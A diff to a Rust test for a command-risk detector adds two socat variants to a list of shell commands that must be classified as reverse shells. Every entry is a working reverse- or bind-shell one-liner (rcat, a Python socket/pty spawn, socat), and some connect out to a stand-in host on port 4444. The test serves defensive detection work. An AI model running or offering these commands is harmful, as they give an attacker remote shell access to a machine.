@@ -187,6 +187,8 @@ fn a_shell_wired_to_any_connecting_program_is_a_reverse_shell() {
         "rcat connect -s bash 203.0.113.9 4444",
         r#"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'"#,
         "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
+        "socat Tcp:203.0.113.9:4444 Exec:/bin/bash",
+        "socat tcp4-Listen:4444 SYSTEM:sh",
     ] {
         assert_risk(command, ReverseShell);
     }
